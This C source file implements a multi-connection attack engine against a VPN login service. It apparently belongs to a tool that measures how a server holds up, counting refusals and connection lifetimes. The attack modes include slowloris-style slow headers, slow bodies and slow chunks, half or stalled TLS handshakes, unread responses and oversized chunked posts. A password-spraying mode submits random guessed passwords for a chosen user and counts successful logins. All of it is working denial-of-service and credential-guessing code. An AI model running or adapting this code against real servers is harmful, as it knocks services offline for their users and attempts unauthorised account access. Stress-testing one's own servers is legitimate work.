// Connections that want nothing good: thousands of them at one time, from one loop.
#include "flood.h"

#include <errno.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#define TICK_MS 10
#define DRIP 0.2 // seconds from one byte to the next
#define REPLY_ROOM 4096
#define XML_BEGIN "<?xml version=\"1.0\" encoding=\"UTF-8\"?><config-auth client=\"vpn\" type=\""
#define XML_VERSION "\"><version who=\"vpn\">v9.01</version>"

struct stream {
	int fd; // -1: none
	SSL *tls;
	unsigned step; // of its attack
	bool shaken, there;
	double began, next; // next: its next byte is due
	size_t sent;
	char reply[REPLY_ROOM];
	size_t reply_len;
};

// 1: goes on at once; 0: waits; -1: it is over, by us.
typedef int act(struct stream *s);

static const struct attack {
	const char *name;
	bool tls; // a handshake comes first
	bool drips;
	act *act;
	const char *first, *pattern; // of those that drip
} * attack;

static struct stream *streams;
static SSL_CTX *ctx;
static uint8_t client_hello[2048];
static size_t hello_len;
static int loop;

// ------------------------------------------------------------------------------------------------------------- connections

static void stream_end(struct stream *s, bool by_peer)
{
	double lived = now - s->began;

	if (by_peer && s->there) {
		if (!counts.ended || lived < counts.first_end)
			counts.first_end = lived;
		if (lived > counts.last_end)
			counts.last_end = lived;
		counts.ended++;
	} else if (by_peer) {
		counts.refused++;
	}
	SSL_free(s->tls);
	close(s->fd);
	*s = (struct stream){ .fd = -1 };
}

static int stream_begin(struct stream *s, unsigned n)
{
	struct epoll_event e = { .events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.ptr = s };
	const int on = 1, small = 2048;
	struct sockaddr_storage from;
	socklen_t len = place(n % wish.places, &from);

	*s = (struct stream){ .began = now, .fd = socket(from.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0) };
	if (s->fd < 0)
		return -1;
	setsockopt(s->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	setsockopt(s->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof(on));
	if (strcmp(attack->name, "unread") == 0)
		setsockopt(s->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	counts.made++;
	if (bind(s->fd, (struct sockaddr *)&from, len) < 0 ||
	    (connect(s->fd, (struct sockaddr *)&wish.server, wish.server_len) < 0 && errno != EINPROGRESS) ||
	    epoll_ctl(loop, EPOLL_CTL_ADD, s->fd, &e) < 0) {
		stream_end(s, true);
		return -1;
	}
	return 0;
}

// 1 done, 0 waits, -1 over.
static int tls_outcome(const struct stream *s, int n)
{
	int why = n > 0 ? SSL_ERROR_NONE : SSL_get_error(s->tls, n);

	return n > 0 ? 1 : why == SSL_ERROR_WANT_READ || why == SSL_ERROR_WANT_WRITE ? 0 : -1;
}

static int give(struct stream *s, const void *bytes, size_t n)
{
	int ret;

	if (s->tls) {
		ret = tls_outcome(s, SSL_write(s->tls, bytes, (int)n));
	} else {
		ssize_t done = send(s->fd, bytes, n, MSG_NOSIGNAL);

		ret = done > 0 ? 1 : errno == EAGAIN ? 0 : -1;
	}
	counts.bytes_out += ret > 0 ? n : 0;
	return ret;
}

// What comes is counted and forgotten, but for its beginning. False: the other side has ended it.
static bool take(struct stream *s)
{
	char buf[4096];
	long n;

	for (;;) {
		if (s->tls && s->shaken) {
			n = SSL_read(s->tls, buf, sizeof(buf));
			if (n <= 0)
				return tls_outcome(s, (int)n) == 0;
		} else {
			n = recv(s->fd, buf, sizeof(buf), 0);
			if (n <= 0)
				return n < 0 && errno == EAGAIN;
		}
		counts.bytes_in += (uint64_t)n;
		for (long i = 0; i < n && s->reply_len < REPLY_ROOM - 1; i++)
			s->reply[s->reply_len++] = buf[i];
	}
}

// ------------------------------------------------------------------------------------------------------------------ attacks

static int act_nothing(struct stream *s)
{
	return 0;
}

static int act_half_hello(struct stream *s)
{
	return s->step++ ? 0 : give(s, client_hello, hello_len / 2) < 0 ? -1 : 0;
}

static int act_hello(struct stream *s)
{
	if (!s->step++)
		return give(s, client_hello, hello_len) < 0 ? -1 : 0;
	return s->reply_len ? -1 : 0;
}

static int act_hang_up(struct stream *s)
{
	return -1;
}

static int act_record(struct stream *s)
{
	static const uint8_t begun[] = { 23, 3, 3, 0x20, 0, 1, 2, 3, 4, 5, 6, 7 };

	if (s->step++)
		return 0;
	counts.bytes_out += sizeof(begun);
	return send(s->fd, begun, sizeof(begun), MSG_NOSIGNAL) > 0 ? 0 : -1;
}

static int act_drip(struct stream *s)
{
	if (!s->step) {
		int ret = give(s, attack->first, strlen(attack->first));

		s->step = ret > 0;
		s->next = now + DRIP;
		return ret < 0 ? -1 : 0;
	}
	if (now < s->next)
		return 0;
	s->next = now + DRIP;
	return give(s, &attack->pattern[s->sent++ % strlen(attack->pattern)], 1) < 0 ? -1 : 0;
}

static int act_pour(struct stream *s)
{
	static const char lump[8192];
	int ret = s->step ? give(s, lump, sizeof(lump)) : give(s, attack->first, strlen(attack->first));

	s->step += ret > 0;
	return ret;
}

static int act_unread(struct stream *s)
{
	static const char get[] = "GET /no-such-page HTTP/1.1\r\nHost: vpn.example\r\n\r\n";
	int ret = give(s, get, sizeof(get) - 1);

	return ret > 0 && ++s->step < 12 ? 1 : ret < 0 ? -1 : 0;
}

static int post(struct stream *s, const char *path, const char *type, const char *what)
{
	char body[512], all[1024];
	int n;

	snprintf(body, sizeof(body), XML_BEGIN "%s" XML_VERSION "%s</config-auth>", type, what);
	n = snprintf(
	        all, sizeof(all),
	        "POST %s HTTP/1.1\r\nHost: vpn.example\r\nUser-Agent: Open AnyConnect VPN Agent v9.01\r\nX-Aggregate-Auth: 1\r\n"
	        "Content-Length: %zu\r\n\r\n%s",
	        path, strlen(body), body);
	s->reply_len = 0;
	return give(s, all, (size_t)n);
}

static bool answered(struct stream *s)
{
	s->reply[s->reply_len] = 0;
	return strstr(s->reply, "</config-auth>") || strstr(s->reply, "HTTP/1.1 4") || strstr(s->reply, "HTTP/1.1 5");
}

// Init, user name, password; then it is over, without waiting for the answer or with it.
static int login(struct stream *s, bool waits)
{
	char what[128];
	int ret;

	if (s->step && s->step < 3 && !answered(s))
		return 0;
	switch (s->step) {
	case 0:
		ret = post(s, "/", "init", "<group-access>https://vpn.example</group-access>");
		break;
	case 1:
		snprintf(what, sizeof(what), "<auth><username>%s</username></auth>", wish.user);
		ret = post(s, "/auth", "auth-reply", what);
		break;
	case 2:
		snprintf(what, sizeof(what), "<auth><password>guess-%u</password></auth>", random_below(1u << 31));
		ret = post(s, "/auth", "auth-reply", what);
		break;
	default:
		if (waits && !answered(s))
			return 0;
		counts.answers += waits;
		counts.let_in += strstr(s->reply, "<session-token>") || strstr(s->reply, "type=\"complete\"");
		return -1;
	}
	s->step += ret > 0;
	return ret < 0 ? -1 : s->step == 3 && !waits ? -1 : 0;
}

static int act_abort(struct stream *s)
{
	return login(s, false);
}
static int act_spray(struct stream *s)
{
	return login(s, true);
}

#define POST "POST / HTTP/1.1\r\nHost: vpn.example\r\n"

static const struct attack attacks[] = {
	{ "silent", false, false, act_nothing, NULL, NULL },
	{ "half-hello", false, false, act_half_hello, NULL, NULL },
	{ "hellos", false, false, act_hello, NULL, NULL },
	{ "handshakes", true, false, act_hang_up, NULL, NULL },
	{ "record", true, false, act_record, NULL, NULL },
	{ "headers", true, true, act_drip, POST, "X-Slow: yes\r\n" },
	{ "body", true, true, act_drip, POST "Content-Length: 200000\r\n\r\n", "a" },
	{ "chunks", true, true, act_drip, POST "Transfer-Encoding: chunked\r\n\r\n", "1\r\na\r\n" },
	{ "post", true, false, act_pour, POST "Transfer-Encoding: chunked\r\n\r\nfffffff\r\n", NULL },
	{ "unread", true, false, act_unread, NULL, NULL },
	{ "aborts", true, false, act_abort, NULL, NULL },
	{ "spray", true, false, act_spray, NULL, NULL },
};

// ------------------------------------------------------------------------------------------------------------------- loop

static bool is_connected(struct stream *s)
{
	struct tcp_info info;
	socklen_t len = sizeof(info);

	if (!s->there && getsockopt(s->fd, IPPROTO_TCP, TCP_INFO, &info, &len) == 0)
		s->there = info.tcpi_state == TCP_ESTABLISHED || info.tcpi_state == TCP_CLOSE_WAIT;
	return s->there;
}

static int shake(struct stream *s)
{
	int ret;

	if (!s->tls) {
		s->tls = SSL_new(ctx);
		if (!s->tls || SSL_set_fd(s->tls, s->fd) != 1)
			return -1;
	}
	ret = tls_outcome(s, SSL_connect(s->tls));
	s->shaken = ret > 0;
	return ret;
}

static void stream_step(struct stream *s)
{
	int error = 0, ret = 1;
	socklen_t len = sizeof(error);

	ERR_clear_error();
	if (!is_connected(s)) {
		if (getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &error, &len) < 0 || error)
			stream_end(s, true);
		return;
	}
	if (attack->tls && !s->shaken)
		ret = shake(s);
	if (ret > 0 && strcmp(attack->name, "unread") != 0 && !take(s))
		ret = -2;
	while (ret > 0)
		ret = attack->act(s);
	// who cannot say what he wants has been left
	if (ret < 0)
		stream_end(s, ret == -2 || errno == EPIPE || errno == ECONNRESET || (attack->tls && !s->shaken));
}

static void top_up(double began)
{
	static unsigned number;

	if (wish.once && number >= wish.connections)
		return;
	for (unsigned i = 0; i < wish.connections; i++) {
		if (streams[i].fd >= 0)
			continue;
		if (wish.rate && (double)counts.made >= (now - began) * wish.rate + 1)
			return;
		if (stream_begin(&streams[i], number++) < 0 || (wish.once && number == wish.connections))
			return;
	}
}

static void loop_turn(void)
{
	struct epoll_event events[256];
	int n = epoll_wait(loop, events, 256, TICK_MS);

	clock_read();
	for (int i = 0; i < n; i++) {
		struct stream *s = events[i].data.ptr;

		errno = 0;
		if (s->fd >= 0)
			stream_step(s);
	}
}

static void drip_all(void)
{
	for (unsigned i = 0; i < wish.connections; i++)
		if (streams[i].fd >= 0 && streams[i].step && now >= streams[i].next)
			stream_step(&streams[i]);
}

// What a client says first.
static int make_hello(void)
{
	SSL *tls = SSL_new(ctx);
	BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());

	if (!tls || !in || !out)
		return -1;
	SSL_set_bio(tls, in, out);
	SSL_connect(tls);
	hello_len = (size_t)BIO_read(out, client_hello, sizeof(client_hello));
	SSL_free(tls);
	return hello_len > 0 && hello_len < sizeof(client_hello) ? 0 : -1;
}

static int prepare(void)
{
	ctx = SSL_CTX_new(TLS_client_method());
	streams = calloc(wish.connections, sizeof(*streams));
	loop = epoll_create1(EPOLL_CLOEXEC);
	if (!ctx || !streams || loop < 0 || make_hello() < 0)
		return -1;
	SSL_CTX_set_session_cache_mode(ctx, SSL_SESS_CACHE_OFF);
	SSL_CTX_set_mode(ctx, SSL_MODE_RELEASE_BUFFERS | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER | SSL_MODE_ENABLE_PARTIAL_WRITE);
	for (unsigned i = 0; i < wish.connections; i++)
		streams[i].fd = -1;
	return 0;
}

static unsigned open_now(void)
{
	unsigned n = 0;

	for (unsigned i = 0; i < wish.connections; i++)
		n += streams[i].fd >= 0;
	return n;
}

int streams_run(const char *name)
{
	double began = now;

	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		if (strcmp(attacks[i].name, name) == 0)
			attack = &attacks[i];
	if (!attack)
		return -1;
	if (prepare() < 0) {
		perror(name);
		exit(1);
	}
	for (clock_read(); now < began + wish.seconds; clock_read()) {
		top_up(began);
		loop_turn();
		if (attack->drips)
			drip_all();
		if (wish.once && counts.made >= wish.connections && open_now() == 0)
			break;
	}
	counts.open = open_now();
	return 0;
}
